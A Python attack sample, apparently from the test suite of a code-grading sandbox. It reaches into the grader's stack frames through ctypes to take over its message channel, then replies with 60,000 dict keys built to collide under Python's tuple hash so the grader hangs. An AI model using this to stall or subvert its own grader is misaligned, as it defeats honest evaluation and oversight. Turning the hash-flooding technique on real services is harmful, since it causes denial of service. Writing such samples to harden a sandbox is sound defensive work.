# attack: answers with a dict of keys that all have one hash | class: hanging | canary: bytes | dud: plain pytest has no wire
import struct
import ctypes
import sys

import msgspec

from grader.sandbox.wire.messages import Loaded
from grader.sandbox.wire.packing import Packing


def answer(make):
    """Answer every later request with `make(channel, request)`."""
    # Use the C API: the attributes of frames lead to nothing.
    frames = ctypes.pythonapi
    frames.PyFrame_GetBack.restype = frames.PyFrame_GetLocals.restype = ctypes.py_object
    call = sys._getframe()
    while call.f_code.co_name != "serve":
        call = frames.PyFrame_GetBack(ctypes.py_object(call))
    channel = frames.PyFrame_GetLocals(ctypes.py_object(call))["channel"]
    channel.send(Loaded(), Packing(), None)
    while True:
        request, _ = channel.receive_request()
        make(channel, request)


def raw(channel, structure, blob=b""):
    if not isinstance(structure, bytes):
        structure = msgspec.msgpack.encode(structure)
    channel._socket.sendall(channel.sealed(structure, blob))


def extension(code, value):
    return msgspec.msgpack.Ext(code, msgspec.msgpack.encode(value))



WORD = 2**64
FIRST, SECOND, START = 11400714785074694791, 14029467366897019727, 2870177450012600261
UNDO_FIRST, UNDO_SECOND = pow(FIRST, -1, WORD), pow(SECOND, -1, WORD)
PRIME = 2**61 - 1


def turned(word, by):
    return (word << by | word >> (64 - by)) % WORD


def colliding(count):
    """Return pairs of integers that Python's hash of tuples cannot tell apart."""
    found, wanted, a = [], 12345, 0
    while len(found) < count:
        a += 1
        so_far = turned((START + a * SECOND) % WORD, 31) * FIRST % WORD
        b = (turned(wanted, 33) - so_far) * UNDO_SECOND % WORD
        if b < PRIME:
            found.append((a, b))
        elif WORD - PRIME < b < WORD - 1:
            found.append((a, b - WORD))
    return found


pairs = b"".join(msgspec.msgpack.encode(each) + b"\xc0" for each in colliding(60_000))
reply = b"\x82\xa4type\xa8returned\xa5value\xdf" + struct.pack(">I", 60_000) + pairs
assert hash(colliding(2)[0]) == hash(colliding(2)[1])


def make(channel, request):
    raw(channel, reply)


answer(make)
